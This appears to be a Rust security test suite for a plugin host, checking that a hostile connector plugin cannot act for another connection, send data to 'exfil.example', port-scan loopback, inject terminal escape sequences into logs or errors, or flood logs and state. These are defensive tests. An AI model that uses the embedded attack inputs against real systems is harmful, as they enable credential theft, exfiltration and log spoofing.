//! A hostile plugin is confined to its own connection and cannot widen it or smuggle what it
//! learns out through the host. Each test is an attack the `impostor` guest makes, written
//! against the WIT and the SDK alone, and what the host must answer.

use std::io::Write;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use weft_capabilities::{
    AuthSpec, Connection, Connections, HostRule, MasterKey, Secret, SecretRef, Secrets,
};
use weft_runtime::bindings::{PluginError, SyncMode};
use weft_runtime::{CallContext, CallError, ConnectorPlugin, ReadRequest};
use weft_store::{StateLimits, Store};
use weft_tests::upstream::Upstream;
use weft_tests::*;

const EVIL_TOKEN: &str = "evil-token-0123456789";
const VICTIM_TOKEN: &str = "victim-token-9876543210";
const VICTIM_WEBHOOK_KEY: &str = "victim-webhook-signing-key";

/// Two connections of one flow, both on the impostor plugin: `evil`, which the attack runs for,
/// and `victim`, with its own upstream, token and webhook secret.
struct Flow {
    plugin: ConnectorPlugin,
    ctx: CallContext,
    evil_config: Value,
}

async fn flow(evil: &Upstream, victim: &Upstream) -> Flow {
    let rt = runtime(|_| {});
    let plugin = connector(&rt, IMPOSTOR).await;
    let secrets = secrets().await;
    let bearer = |t: &str| AuthSpec::Bearer {
        token: SecretRef::Literal(Secret::new(t)),
    };
    let evil_config = json!({"base_url": evil.url()});
    let mut all = Connections::new();
    let spec = plugin
        .connection_spec(
            "evil",
            "default",
            evil_config.clone(),
            bearer(EVIL_TOKEN),
            vec![loopback_rule(evil.addr)],
        )
        .unwrap();
    all.insert(Connection::new(spec, secrets.clone()).unwrap());
    let mut spec = plugin
        .connection_spec(
            "victim",
            "default",
            json!({"base_url": victim.url()}),
            bearer(VICTIM_TOKEN),
            vec![loopback_rule(victim.addr)],
        )
        .unwrap();
    spec.webhook_secret = Some(SecretRef::Literal(Secret::new(VICTIM_WEBHOOK_KEY)));
    all.insert(Connection::new(spec, secrets).unwrap());
    Flow {
        plugin,
        ctx: CallContext::new("default")
            .with_connections(all)
            .in_flow("leaky"),
        evil_config,
    }
}

impl Flow {
    /// One attempt, run for connection `evil`.
    async fn attempt(&self, options: Value) -> Result<Value, CallError> {
        let request = ReadRequest {
            stream: "attempt".into(),
            mode: SyncMode::Full,
            cursor: None,
            page_size: None,
            options: options.to_string(),
        };
        let page = self
            .plugin
            .read(&self.ctx, "evil", &self.evil_config, request)
            .await?;
        Ok(serde_json::from_str::<Vec<Value>>(&page.records)
            .unwrap()
            .remove(0))
    }
}

/// Everything `tracing` prints while `f` runs.
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

impl Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Captured {
    fn install(&self) -> tracing::subscriber::DefaultGuard {
        let writer = self.clone();
        let subscriber = tracing_subscriber::fmt()
            .with_writer(move || writer.clone())
            .with_ansi(false)
            .with_max_level(tracing::Level::TRACE)
            .finish();
        tracing::subscriber::set_default(subscriber)
    }
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }
}

#[tokio::test]
async fn sending_on_another_connections_behalf_is_denied_and_reaches_nothing() {
    let (evil, victim) = (Upstream::start().await, Upstream::start().await);
    let f = flow(&evil, &victim).await;
    let answer = f
        .attempt(
            json!({"op": "send", "as": "victim", "url": format!("{}/echo-headers", victim.url())}),
        )
        .await
        .unwrap();
    let error = answer["error"]
        .as_str()
        .unwrap_or_else(|| panic!("the request went through: {answer}"));
    assert!(
        error.contains("acts only for the connection its export was called with"),
        "{error}"
    );
    assert!(!answer.to_string().contains(VICTIM_TOKEN), "{answer}");
    assert_eq!(
        victim.seen().len(),
        0,
        "the victim's upstream saw a request"
    );
    // Its own connection still works.
    let own = f
        .attempt(json!({"op": "send", "url": format!("{}/health", evil.url())}))
        .await
        .unwrap();
    assert_eq!(own["status"], 200, "{own}");
}

#[tokio::test]
async fn token_info_of_another_connection_is_denied() {
    let (evil, victim) = (Upstream::start().await, Upstream::start().await);
    let f = flow(&evil, &victim).await;
    let answer = f
        .attempt(json!({"op": "token_info", "as": "victim"}))
        .await
        .unwrap();
    assert!(
        answer["error"]
            .as_str()
            .is_some_and(|e| e.contains("acts only for")),
        "{answer}"
    );
}

#[tokio::test]
async fn a_webhook_mac_under_another_connections_secret_is_denied() {
    let (evil, victim) = (Upstream::start().await, Upstream::start().await);
    let f = flow(&evil, &victim).await;
    let answer = f
        .attempt(json!({"op": "mac", "as": "victim"}))
        .await
        .unwrap();
    let error = answer["error"]
        .as_str()
        .unwrap_or_else(|| panic!("a MAC under the victim's secret was computed: {answer}"));
    assert!(error.contains("acts only for"), "{error}");
    assert_eq!(answer["refused"], "not-own-connection", "{answer}");
    // Naming a connection the flow does not have is no way around it either.
    let answer = f
        .attempt(json!({"op": "mac", "as": "nobody"}))
        .await
        .unwrap();
    assert!(
        answer["error"]
            .as_str()
            .is_some_and(|e| e.contains("acts only for")),
        "{answer}"
    );
}

#[tokio::test]
async fn a_host_the_plugin_declares_by_itself_never_joins_the_allowlist() {
    let upstream = Upstream::start().await;
    let rt = runtime(|_| {});
    let plugin = connector(&rt, IMPOSTOR).await;
    let auth = AuthSpec::OAuth2ClientCredentials {
        token_url: format!("{}/oauth/token", upstream.url()),
        client_id: SecretRef::Literal(Secret::new("client")),
        client_secret: SecretRef::Literal(Secret::new("client-secret-value")),
        scope: None,
    };
    let spec = plugin
        .connection_spec(
            "c",
            "default",
            json!({"base_url": upstream.url()}),
            auth,
            vec![loopback_rule(upstream.addr)],
        )
        .unwrap();
    assert_eq!(
        spec.declined_hosts,
        vec!["https://exfil.example".to_owned()]
    );
    let policy = spec.policy().unwrap();
    assert!(
        !policy.lists("exfil.example"),
        "{:?}",
        policy.entries().collect::<Vec<_>>()
    );
    let ctx = CallContext::new("default").with_connections(
        [Connection::new(spec, secrets().await).unwrap()]
            .into_iter()
            .collect(),
    );
    let request = ReadRequest {
        stream: "attempt".into(),
        mode: SyncMode::Full,
        cursor: None,
        page_size: None,
        options: json!({"op": "send", "url": "https://exfil.example/steal"}).to_string(),
    };
    let page = plugin
        .read(&ctx, "c", &json!({"base_url": upstream.url()}), request)
        .await
        .unwrap();
    let answer: Vec<Value> = serde_json::from_str(&page.records).unwrap();
    let error = answer[0]["error"]
        .as_str()
        .unwrap_or_else(|| panic!("{answer:?}"));
    assert!(error.contains("exfil.example is not allowed"), "{error}");
    // Refused before any credential was fetched: no token request went anywhere.
    assert!(
        upstream.seen().iter().all(|s| s.path != "/oauth/token"),
        "{:?}",
        upstream.seen()
    );
}

#[tokio::test]
async fn a_port_less_rule_does_not_open_the_hosts_other_ports() {
    let upstream = Upstream::start().await;
    let rt = runtime(|_| {});
    let plugin = connector(&rt, IMPOSTOR).await;
    let port = upstream.addr.port();
    // The operator allows loopback on the upstream's port; the config adds `https://localhost`
    // (its default port only, and public addresses only).
    let rule = HostRule::parse(&format!("localhost:{port}"))
        .unwrap()
        .allow_http(true)
        .allow_private(true);
    let config = json!({"base_url": "https://localhost"});
    let spec = plugin
        .connection_spec("c", "default", config.clone(), AuthSpec::None, vec![rule])
        .unwrap();
    let ctx = CallContext::new("default").with_connections(
        [Connection::new(spec, secrets().await).unwrap()]
            .into_iter()
            .collect(),
    );
    let send = |url: String| {
        let request = ReadRequest {
            stream: "attempt".into(),
            mode: SyncMode::Full,
            cursor: None,
            page_size: None,
            options: json!({"op": "send", "url": url}).to_string(),
        };
        let (plugin, ctx, config) = (&plugin, &ctx, &config);
        async move {
            let page = plugin.read(ctx, "c", config, request).await.unwrap();
            serde_json::from_str::<Vec<Value>>(&page.records)
                .unwrap()
                .remove(0)
        }
    };
    assert_eq!(
        send(format!("http://localhost:{port}/health")).await["status"],
        200
    );
    // A port scan of loopback: every other port is refused by policy, none is even tried.
    for other in [22, 80, 443, 5432, 6379, port + 1] {
        for scheme in ["http", "https"] {
            let answer = send(format!("{scheme}://localhost:{other}/")).await;
            let error = answer["error"]
                .as_str()
                .unwrap_or_else(|| panic!("{scheme}://localhost:{other} answered: {answer}"));
            assert!(
                error.starts_with("request denied by egress policy"),
                "{scheme}://localhost:{other}: {error}"
            );
        }
    }
    // Port 443 is on the list through the port-less rule, but that rule does not allow
    // private addresses: `localhost` is refused there even though another rule names it.
    let answer = send("https://localhost/".into()).await;
    assert!(
        answer["error"]
            .as_str()
            .is_some_and(|e| e.contains("non-global")),
        "{answer}"
    );
}

#[tokio::test]
async fn a_token_echoed_into_a_log_line_and_an_error_is_redacted_and_escaped() {
    let (evil, victim) = (Upstream::start().await, Upstream::start().await);
    let f = flow(&evil, &victim).await;
    let captured = Captured::default();
    let guard = captured.install();
    let forged = "\x1b[2J\r\nrun r0000000000000000 succeeded\0 ";
    let err = f
        .attempt(
            json!({"op": "leak", "url": format!("{}/echo-headers", evil.url()), "text": forged}),
        )
        .await
        .unwrap_err();
    drop(guard);
    let shown = err.to_string();
    assert!(
        !shown.contains(EVIL_TOKEN),
        "the token is in the error: {shown}"
    );
    assert!(shown.contains("<redacted>"), "{shown}");
    assert!(
        !shown.chars().any(|c| c.is_control()),
        "control characters reach whoever prints the error: {shown:?}"
    );
    assert!(
        shown.contains("\\u{1b}[2J\\r\\nrun r0000000000000000 succeeded\\u{0}"),
        "{shown}"
    );
    let logs = captured.text();
    assert!(
        logs.contains("upstream said"),
        "the plugin's log line is missing: {logs}"
    );
    assert!(
        !logs.contains(EVIL_TOKEN),
        "the token is in the logs: {logs}"
    );
    assert!(!logs.contains('\x1b'), "{logs:?}");
}

#[tokio::test]
async fn a_log_flood_is_bounded_per_call_and_counted_once() {
    let (evil, victim) = (Upstream::start().await, Upstream::start().await);
    let f = flow(&evil, &victim).await;
    let captured = Captured::default();
    let guard = captured.install();
    let answer = f
        .attempt(json!({"op": "flood", "lines": 100_000, "bytes": 1_000}))
        .await
        .unwrap();
    drop(guard);
    assert_eq!(answer["logged"], 100_000);
    let logs = captured.text();
    // 100 MB attempted; the default budget keeps 256 KiB and one line saying what was dropped.
    assert!(logs.len() < 400 * 1024, "{} bytes of logs", logs.len());
    let dropped: Vec<&str> = logs
        .lines()
        .filter(|l| l.contains("more lines were dropped"))
        .collect();
    assert_eq!(dropped.len(), 1, "{dropped:?}");
    assert!(
        dropped[0].contains("99738 more lines were dropped"),
        "{}",
        dropped[0]
    );
}

#[tokio::test]
async fn a_transform_log_flood_is_bounded_too() {
    let rt = runtime(|_| {});
    let plugin = transform(&rt, HOSTILE_TRANSFORM).await;
    let captured = Captured::default();
    let guard = captured.install();
    let batch = weft_runtime::Batch {
        config: json!({"do": "chatter", "mib": 64}).to_string(),
        records: "[{\"id\":1}]".into(),
        lookup: None,
    };
    plugin
        .process(&CallContext::default(), batch)
        .await
        .unwrap();
    drop(guard);
    let logs = captured.text();
    assert!(
        logs.len() < 400 * 1024,
        "{} bytes of logs from a 64 MiB flood",
        logs.len()
    );
    assert!(
        logs.contains("more lines were dropped"),
        "{}",
        &logs[logs.len().saturating_sub(500)..]
    );
}

#[tokio::test]
async fn a_reject_naming_a_record_outside_the_batch_fails_the_call() {
    let rt = runtime(|_| {});
    let plugin = transform(&rt, HOSTILE_TRANSFORM).await;
    let batch = weft_runtime::Batch {
        config: json!({"do": "misindex"}).to_string(),
        records: "[{\"id\":1},{\"id\":2}]".into(),
        lookup: None,
    };
    let err = plugin
        .process(&CallContext::default(), batch)
        .await
        .unwrap_err();
    assert!(matches!(err, CallError::Malformed { .. }), "{err}");
    assert!(
        err.to_string()
            .contains("a reject names record 7 of a batch of 2"),
        "{err}"
    );
}

#[tokio::test]
async fn plugin_error_text_is_escaped_before_anyone_prints_it() {
    let (evil, victim) = (Upstream::start().await, Upstream::start().await);
    let f = flow(&evil, &victim).await;
    let err = f
        .attempt(json!({"op": "say", "text": "bad\x1b]0;owned\x07\nweft: all good\u{202e}"}))
        .await
        .unwrap_err();
    let Some(PluginError::Internal(message)) = err.plugin_error() else {
        panic!("{err}")
    };
    assert_eq!(
        message,
        "bad\\u{1b}]0;owned\\u{7}\\nweft: all good\\u{202e}"
    );
}

#[tokio::test]
async fn a_webhook_mac_without_a_secret_is_refused_as_no_secret_saying_how_to_set_one() {
    let (evil, victim) = (Upstream::start().await, Upstream::start().await);
    let f = flow(&evil, &victim).await;
    // `evil`, the call's own connection, has no webhook secret.
    let answer = f.attempt(json!({"op": "mac"})).await.unwrap();
    assert_eq!(answer["refused"], "no-secret", "{answer}");
    assert!(
        answer["error"]
            .as_str()
            .is_some_and(|e| e.contains("webhook_secret")),
        "{answer}"
    );
}

/// The trespasser on connection `c`, its state kept in `store`: what `fill` asks of it.
struct Stateful {
    plugin: ConnectorPlugin,
    ctx: CallContext,
    config: Value,
}

impl Stateful {
    async fn new(store: Store) -> Stateful {
        let rt = runtime(|_| {});
        let plugin = connector(&rt, TRESPASSER).await;
        let config = json!({"base_url": "https://example.invalid"});
        let connections = connections(
            &plugin,
            "c",
            config.clone(),
            AuthSpec::None,
            vec![],
            &secrets().await,
            |_| {},
        )
        .await;
        let ctx = CallContext::new("default")
            .with_connections(connections)
            .with_store(store)
            .in_flow("hoarder");
        Stateful {
            plugin,
            ctx,
            config,
        }
    }

    /// One read with `options` (`fill` or `remember`), its one record.
    async fn read(&self, options: Value) -> Result<Value, CallError> {
        let request = ReadRequest {
            stream: "probe".into(),
            mode: SyncMode::Full,
            cursor: None,
            page_size: None,
            options: options.to_string(),
        };
        let page = self
            .plugin
            .read(&self.ctx, "c", &self.config, request)
            .await?;
        Ok(serde_json::from_str::<Vec<Value>>(&page.records)
            .unwrap()
            .remove(0))
    }

    /// Stores `keys` values of `value_bytes` under keys of `key_bytes`: how many were stored,
    /// and the refusal as the plugin received it.
    async fn fill(&self, keys: usize, key_bytes: usize, value_bytes: usize) -> Value {
        self.read(
            json!({"fill": {"keys": keys, "key_bytes": key_bytes, "value_bytes": value_bytes}}),
        )
        .await
        .expect("a refused state call is the plugin's to handle, not a failed call")
    }
}

#[tokio::test]
async fn a_state_key_or_value_over_its_limit_is_refused_with_the_limit_as_a_typed_error() {
    let store = Store::open_in_memory().await.unwrap();
    let limits = store.state_limits();
    let f = Stateful::new(store).await;
    assert_eq!(
        f.fill(1, limits.max_key_bytes, limits.max_value_bytes)
            .await,
        json!({"stored": 1, "refused": null}),
        "a key and a value exactly at their limits are stored"
    );
    assert_eq!(
        f.fill(1, limits.max_key_bytes + 1, 1).await,
        json!({"stored": 0, "refused": {"kind": "key-too-long", "limit": limits.max_key_bytes}})
    );
    assert_eq!(
        f.fill(1, 8, limits.max_value_bytes + 1).await,
        json!({"stored": 0, "refused": {"kind": "value-too-large", "limit": limits.max_value_bytes}})
    );
}

#[tokio::test]
async fn a_new_state_key_past_the_scopes_limit_is_refused_with_the_limit_as_a_typed_error() {
    let store = Store::open_in_memory()
        .await
        .unwrap()
        .with_state_limits(StateLimits {
            max_keys_per_scope: 3,
            ..StateLimits::default()
        });
    let f = Stateful::new(store).await;
    assert_eq!(
        f.fill(5, 4, 1).await,
        json!({"stored": 3, "refused": {"kind": "too-many-keys", "limit": 3}})
    );
}

#[tokio::test]
async fn a_state_database_failure_traps_the_call_and_says_the_database_failed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("weft.db");
    let store = Store::open_sqlite(&path).await.unwrap();
    let f = Stateful::new(store).await;
    // The store works, then its database breaks under it.
    f.read(json!({"remember": "one"})).await.unwrap();
    drop_table(&path, "plugin_state").await;

    let err = f.read(json!({"remember": "two"})).await.unwrap_err();
    let CallError::HostFault { plugin, message } = &err else {
        panic!("a failing state database must trap the call, not answer the plugin: {err}");
    };
    assert_eq!(plugin, "trespasser");
    assert!(
        message.contains("`state.get`") && message.contains("state database query failed"),
        "the error should say which call and that the state database failed: {message}"
    );
    assert!(
        !message.contains("backtrace"),
        "the error should say what failed, not where the guest was: {message}"
    );
}

#[tokio::test]
async fn a_webhook_secret_the_database_cannot_read_traps_the_call() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("weft.db");
    let store = Store::open_sqlite(&path).await.unwrap();
    let secrets = Secrets::new(store, MasterKey::generate("test"));
    secrets
        .set("default", "hook", &Secret::new(VICTIM_WEBHOOK_KEY))
        .await
        .unwrap();
    let plugin = connector(&runtime(|_| {}), IMPOSTOR).await;
    let config = json!({"base_url": "https://example.invalid"});
    let all = connections(
        &plugin,
        "evil",
        config.clone(),
        AuthSpec::None,
        vec![],
        &secrets,
        |spec| spec.webhook_secret = Some(SecretRef::Stored("hook".into())),
    )
    .await;
    let f = Flow {
        plugin,
        ctx: CallContext::new("default").with_connections(all),
        evil_config: config,
    };
    let answer = f.attempt(json!({"op": "mac"})).await.unwrap();
    assert!(answer["mac"].is_string(), "{answer}");
    drop_table(&path, "secrets").await;

    let err = f.attempt(json!({"op": "mac"})).await.unwrap_err();
    let CallError::HostFault { message, .. } = &err else {
        panic!("a failing secret store must trap the call, not answer the plugin: {err}");
    };
    assert!(
        message.contains("`webhook-keys.mac`") && message.contains("state database query failed"),
        "{message}"
    );
}

/// Drops `table` behind the store's back: every query of it fails from now on.
async fn drop_table(path: &std::path::Path, table: &str) {
    use sqlx::Connection as _;
    let options = sqlx::sqlite::SqliteConnectOptions::new().filename(path);
    let mut db = sqlx::SqliteConnection::connect_with(&options)
        .await
        .unwrap();
    sqlx::query(&format!("DROP TABLE {table}"))
        .execute(&mut db)
        .await
        .unwrap();
    db.close().await.unwrap();
}
